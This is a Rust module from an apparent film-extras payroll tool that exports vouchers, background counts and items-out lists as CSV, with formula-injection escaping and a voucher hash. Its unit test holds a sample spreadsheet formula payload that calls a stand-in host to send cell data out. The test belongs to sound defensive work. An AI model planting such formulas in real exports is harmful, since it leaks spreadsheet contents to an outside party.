//! The vouchers and the background count as CSV, with exactly the headers
//! payroll and the production report expect.

use super::count::{Count, background_count};
use super::vouchers::Voucher;
use crate::model::{Day, Money, starts_like_formula};
use crate::pay::hours_text;
use chrono::{DateTime, Utc};

pub const VOUCHER_HEADER: [&str; 34] = [
    "date",
    "badge",
    "last_name",
    "first_name",
    "category",
    "union",
    "rate",
    "call",
    "in",
    "holding_area",
    "ndb_out",
    "ndb_in",
    "meal1_out",
    "meal1_in",
    "meal2_out",
    "meal2_in",
    "out",
    "hours_worked",
    "hours_straight",
    "hours_ot_1_5x",
    "hours_ot_2x",
    "meal_penalties",
    "meal_penalty_amount",
    "bumps",
    "bump_amount",
    "gross",
    "status",
    "corrections",
    "paperwork",
    "upgraded",
    "items_out",
    "dispute",
    "approved_by",
    "approved_at",
];

pub const COUNT_HEADER: [&str; 8] = [
    "category", "union", "booked", "arrived", "late", "no_show", "walk_ins", "released",
];

fn time(day: &Day, at: Option<DateTime<Utc>>) -> String {
    at.map(|at| day.format_at(at)).unwrap_or_default()
}

/// The voucher's fields in the order of [`VOUCHER_HEADER`].
pub fn voucher_fields(day: &Day, v: &Voucher) -> Vec<String> {
    let b = &v.card.booking;
    let presence = v.card.presence.as_ref();
    let meal = |n: usize| v.meals.get(n).copied();
    let pay = v.pay.as_ref();
    let tenths = |f: &dyn Fn(&crate::pay::Pay) -> u32| hours_text(pay.map_or(0, f));
    let money = |f: &dyn Fn(&crate::pay::Pay) -> Money| pay.map_or(Money(0), f).to_string();
    vec![
        day.date.to_string(),
        b.badge_no.clone(),
        b.details.last_name.clone(),
        b.details.first_name.clone(),
        b.details.category.code().to_string(),
        b.details.union.code().to_string(),
        v.rate.to_string(),
        day.format_at(b.details.call_at),
        time(day, presence.and_then(|p| p.checked_in_at)),
        v.card.area_name.clone().unwrap_or_default(),
        time(day, v.ndb.map(|s| s.start)),
        time(day, v.ndb.map(|s| s.end)),
        time(day, meal(0).map(|s| s.start)),
        time(day, meal(0).map(|s| s.end)),
        time(day, meal(1).map(|s| s.start)),
        time(day, meal(1).map(|s| s.end)),
        time(day, presence.and_then(|p| p.released_at)),
        tenths(&|p| p.tenths_worked),
        tenths(&|p| p.tenths_straight),
        tenths(&|p| p.overtime_tenths(0)),
        tenths(&|p| p.overtime_tenths(1)),
        pay.map_or(0, |p| p.penalty_units).to_string(),
        money(&|p| p.penalty_amount),
        v.bumps_text(),
        money(&|p| p.bump_amount),
        money(&|p| p.gross),
        v.status.code().to_string(),
        v.card.corrections.to_string(),
        b.details.paperwork.code().to_string(),
        if b.upgraded.is_some() { "yes" } else { "" }.to_string(),
        v.card.items_out.to_string(),
        v.marks
            .dispute
            .map(|d| d.code().to_string())
            .unwrap_or_default(),
        v.marks
            .approved
            .as_ref()
            .map(|(by, _)| by.clone())
            .unwrap_or_default(),
        v.marks
            .approved
            .as_ref()
            .map(|(_, at)| crate::model::format_local_iso(day.tz, *at))
            .unwrap_or_default(),
    ]
}

/// `cell` as a spreadsheet shows text: a leading `'` before a formula
/// character, so `=HYPERLINK(...)` opens as the text it is.
pub fn formula_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    if starts_like_formula(cell) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// The one way the project writes CSV: CRLF lines, every cell made
/// formula-safe ([`formula_safe`]), in memory.
pub struct SafeCsv(csv::Writer<Vec<u8>>);

impl SafeCsv {
    pub fn new() -> SafeCsv {
        SafeCsv(
            csv::WriterBuilder::new()
                .terminator(csv::Terminator::CRLF)
                .from_writer(Vec::new()),
        )
    }

    pub fn row<I, S>(&mut self, cells: I)
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<_> = cells
            .into_iter()
            .map(|c| formula_safe(c.as_ref()).into_owned())
            .collect();
        self.0
            .write_record(&cells)
            .expect("writing CSV to memory cannot fail");
    }

    pub fn into_bytes(self) -> Vec<u8> {
        self.0
            .into_inner()
            .expect("writing CSV to memory cannot fail")
    }
}

impl Default for SafeCsv {
    fn default() -> Self {
        SafeCsv::new()
    }
}

/// How many columns of the voucher row its hash covers: `date` to
/// `corrections`, what the voucher pays and why. Those after them
/// (`paperwork`, `upgraded`, `items_out`, `dispute`, `approved_by`,
/// `approved_at`) settle after check-out (paperwork verified, items
/// brought back, the voucher reviewed) and are left out, so the extra's
/// copy still matches the payroll PDF, and an approval its own hash.
pub const HASHED_COLUMNS: usize = 28;

/// The voucher's hash: the first 12 hex digits of the SHA-256 of its row in
/// `vouchers-<date>.csv` up to `corrections` ([`HASHED_COLUMNS`]), written
/// as the CSV writes it, without the line's end. Printed on the voucher
/// page and carried by the extra's copy, so the two can be matched.
pub fn voucher_hash(day: &Day, voucher: &Voucher) -> String {
    use sha2::{Digest, Sha256};
    let mut w = SafeCsv::new();
    w.row(&voucher_fields(day, voucher)[..HASHED_COLUMNS]);
    let mut row = w.into_bytes();
    row.truncate(row.len().saturating_sub(2));
    let digest = Sha256::digest(&row);
    digest.iter().take(6).map(|b| format!("{b:02x}")).collect()
}

pub const ITEMS_HEADER: [&str; 8] = [
    "badge",
    "last_name",
    "first_name",
    "kind",
    "what",
    "tag",
    "issued_at",
    "issued_by",
];

/// `items-out-<date>.csv`: every item still out, the header alone when
/// none is; `issued_at` in the form `scan --json` prints `since`.
pub fn items_out_csv(day: &Day, items: &[crate::store::ItemRecord]) -> Vec<u8> {
    let mut w = SafeCsv::new();
    w.row(ITEMS_HEADER);
    for i in items.iter().filter(|i| i.returned_at.is_none()) {
        w.row([
            i.badge.clone(),
            i.last_name.clone(),
            i.first_name.clone(),
            i.kind.clone(),
            i.what.clone(),
            i.tag.clone().unwrap_or_default(),
            crate::model::format_local_iso(day.tz, i.issued_at),
            i.issued_by.clone(),
        ]);
    }
    w.into_bytes()
}

/// `vouchers-<date>.csv`.
pub fn vouchers_csv(day: &Day, vouchers: &[Voucher]) -> Vec<u8> {
    let mut w = SafeCsv::new();
    w.row(VOUCHER_HEADER);
    for v in vouchers {
        w.row(voucher_fields(day, v));
    }
    w.into_bytes()
}

fn count_fields(c: &Count) -> [String; 6] {
    [
        c.booked, c.arrived, c.late, c.no_show, c.walk_ins, c.released,
    ]
    .map(|n| n.to_string())
}

/// `background-count-<date>.csv`.
pub fn count_csv(vouchers: &[Voucher]) -> Vec<u8> {
    let (lines, total) = background_count(vouchers);
    let mut w = SafeCsv::new();
    w.row(COUNT_HEADER);
    for (category, union, count) in &lines {
        let mut row = vec![category.code().to_string(), union.code().to_string()];
        row.extend(count_fields(count));
        w.row(&row);
    }
    let mut row = vec!["total".to_string(), String::new()];
    row.extend(count_fields(&total));
    w.row(&row);
    w.into_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_characters_open_as_text() {
        for bad in ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(formula_safe(bad), format!("'{bad}"));
        }
        for fine in ["José", "O'Brien", "12.50", "06:30", ""] {
            assert_eq!(formula_safe(fine), fine);
        }
        let mut w = SafeCsv::new();
        w.row(["=HYPERLINK(\"http://x.example/?\"&A1)", "Ng"]);
        let text = String::from_utf8(w.into_bytes()).unwrap();
        assert_eq!(
            text,
            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",Ng\r\n"
        );
    }
}
